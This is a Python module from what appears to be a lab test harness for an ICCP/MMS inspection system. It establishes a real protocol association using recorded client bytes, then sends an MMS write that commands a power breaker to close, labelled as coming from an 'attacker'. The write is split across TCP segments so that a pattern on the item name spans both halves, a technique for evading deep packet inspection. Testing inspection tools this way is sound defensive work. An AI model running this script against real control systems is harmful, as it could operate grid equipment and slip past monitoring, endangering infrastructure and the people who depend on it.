"""ICCP split-write attacker for tests: a genuine association (COTP CR, session CONNECT
with ACSE AARQ + MMS initiate), then an MMS write of the breaker split in two TCP segments.

    python -m lab.iccp.attack --dst IP [--port 102] [--split item|N] [--pause 1.0]
                              [--wait-signal] [--ready-file F] --out attack.json

The association bytes are the real pyiec61850 (libiec61850) client's, as recorded in
tests/golden/iccp_session.pcap (a unit test checks they match and decode as CR and
CN/AARQ/initiate).  The write PDU is built with inspection.iccp.frames (asn1tools).  After
the first ``--split`` bytes (default: to the middle of the item name) the attacker pauses ``--pause`` s, or with ``--wait-signal``
until SIGUSR1; ``--ready-file`` is written when the first half is out (with ``--middle N``, three segments: N bytes after the split,
then the rest, each after a pause or SIGUSR1; the ready file says how many are out).  The report says
whether the server answered the write, or the connection was reset / closed / went silent.
"""

from __future__ import annotations

import argparse
import errno
import signal
import socket
import sys
import threading
import time
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

from inspection.iccp import IccpDecoder, IccpEvent
from inspection.iccp.frames import iccp_dt, mms_write, spc_oper
from lab.iccp.server import BREAKER_OPER, DOMAIN
from lab.probes.common import write_report
from topologies.util import die_with_parent

# The real client's first two TPKTs (COTP CR, then CN SPDU / CP-type / AARQ / initiate)
COTP_CR = bytes.fromhex("0300001611e00000000100c0010dc2020001c1020001")
ASSOCIATE = bytes.fromhex(
    "030000ba02f0800db10506130100160102140200023302000134020001c19b318198a00380"
    "0101a28190810400000001820400000001a423300f0201010604520100013004060251013010"
    "020103060528ca220201300406025101615d305b020101a0566054a107060528ca220203a206"
    "060429018766a30302010ca606060429018767a70302010cbe2f282d020103a028a826800300"
    "fde881010582010583010aa416800101810305f100820c03ee1c00000408000079ef18")
WRITE_INVOKE_ID = 1


def breaker_write(item: str = BREAKER_OPER, domain: str = DOMAIN, close: bool = True) -> bytes:
    """The attack PDU on the wire: an MMS write of the breaker's Oper structure."""
    return iccp_dt(mms_write(WRITE_INVOKE_ID, domain, item, spc_oper(close, b"attacker")))


def item_split(pdu: bytes, item: str = BREAKER_OPER) -> int:
    """The split point in the middle of the item name (a pattern on it spans both halves)."""
    at = pdu.find(item.encode())
    return at + len(item) // 2 if at >= 0 else len(pdu) // 2


def _split(arg: str) -> int | None:
    return None if arg == "item" else int(arg)


class _Reader:
    """Reads the server's TPKTs through the ICCP decoder (so the answer is named)."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        self.dec = IccpDecoder()
        self.events: list[IccpEvent] = []

    def next_event(self, timeout: float) -> IccpEvent | None:
        end = time.monotonic() + timeout
        while not self.events:
            left = end - time.monotonic()
            if left <= 0:
                return None
            self.sock.settimeout(left)
            try:
                data = self.sock.recv(65536)
            except TimeoutError:
                return None
            if not data:
                raise ConnectionAbortedError(errno.ECONNABORTED, "closed by peer (EOF)")
            self.events.extend(self.dec.feed(data))
        return self.events.pop(0)


def _outcome(e: OSError) -> str:
    if isinstance(e, ConnectionResetError):
        return "reset"
    if isinstance(e, ConnectionAbortedError):
        return "closed"
    return f"error {errno.errorcode.get(e.errno or 0, type(e).__name__)}"


def run_attack(dst: str, port: int, split: int | None, between: Callable[[], None],
               timeout: float = 3.0, item: str = BREAKER_OPER, middle: int = 0
               ) -> dict[str, Any]:
    """Associate, send the write in two segments (``between`` runs in the middle);
    ``split`` None: in the middle of the item name.  ``middle`` > 0: three segments, the
    ``middle`` bytes after the split between two calls of ``between``."""
    pdu = breaker_write(item)
    split = max(1, min(item_split(pdu, item) if split is None else split, len(pdu) - 1))
    middle = max(0, min(middle, len(pdu) - split - 1))
    rep: dict[str, Any] = {"tool": "iccp-attack", "dst": dst, "port": port, "item": item,
                           "pdu_len": len(pdu), "split": split, "middle": middle,
                           "associated": False, "first_half_at": None, "middle_at": None,
                           "second_half_at": None,
                           "outcome": None, "answer": None, "error": None}
    try:
        sock = socket.create_connection((dst, port), timeout=timeout)
    except OSError as e:
        rep["outcome"], rep["error"] = "connect-failed", str(e)
        return rep
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    reader = _Reader(sock)
    try:
        sock.sendall(COTP_CR)
        cc = reader.next_event(timeout)
        sock.sendall(ASSOCIATE)
        ac = reader.next_event(timeout)
        rep["associated"] = bool(cc and cc.cotp == "CC" and ac and ac.spdu == "AC"
                                 and ac.mms_pdu == "initiate-ResponsePDU")
        if not rep["associated"]:
            rep["outcome"] = "association-refused"
            return rep
        sock.sendall(pdu[:split])
        rep["first_half_at"] = time.time()
        between()
        if middle:
            sock.sendall(pdu[split:split + middle])
            rep["middle_at"] = time.time()
            between()
            split += middle
        sock.sendall(pdu[split:])
        rep["second_half_at"] = time.time()
        ans = reader.next_event(timeout)
        if ans is None:
            rep["outcome"] = "no-answer"
        else:
            rep["outcome"] = "answered"
            rep["answer"] = {"mms_pdu": ans.mms_pdu, "service": ans.service,
                             "invoke_id": ans.invoke_id, "kind": ans.kind}
    except OSError as e:
        rep["outcome"], rep["error"] = _outcome(e), str(e)
    finally:
        sock.close()
    return rep


def _between(pause: float, wait_signal: bool, ready_file: str | None) -> Callable[[], None]:
    got = threading.Event()
    parts = [0]
    if wait_signal:
        signal.signal(signal.SIGUSR1, lambda signum, frame: got.set())

    def between() -> None:
        parts[0] += 1
        if ready_file:  # "<segments sent> <time>": rewritten at each pause
            tmp = Path(ready_file + ".tmp")
            tmp.write_text(f"{parts[0]} {time.time()}")
            tmp.replace(ready_file)
        if wait_signal:
            got.wait()
            got.clear()
        else:
            time.sleep(pause)
    return between


def main(argv: Sequence[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m lab.iccp.attack",
                                description=__doc__.split("\n")[0])
    p.add_argument("--dst", required=True)
    p.add_argument("--port", type=int, default=102)
    p.add_argument("--split", type=_split, default=None,
                   help="bytes of the write PDU sent first, or 'item' (default): the middle "
                        "of the item name")
    p.add_argument("--pause", type=float, default=1.0, help="pause between the halves (s)")
    p.add_argument("--wait-signal", action="store_true",
                   help="send the second half on SIGUSR1 instead of after --pause")
    p.add_argument("--ready-file", help="written once the first half is sent")
    p.add_argument("--timeout", type=float, default=3.0, help="per answer (s)")
    p.add_argument("--item", default=BREAKER_OPER)
    p.add_argument("--middle", type=int, default=0,
                   help="send the write in three segments: these bytes after --split, "
                        "between two pauses (signals)")
    p.add_argument("--out", required=True, help="JSON report path")
    p.add_argument("--die-with-parent", action="store_true")
    a = p.parse_args(argv)
    if a.die_with_parent:
        die_with_parent()
    rep = run_attack(a.dst, a.port, a.split, _between(a.pause, a.wait_signal, a.ready_file),
                     a.timeout, a.item, a.middle)
    write_report(a.out, rep)
    return 0 if rep["outcome"] is not None else 1


if __name__ == "__main__":
    sys.exit(main())
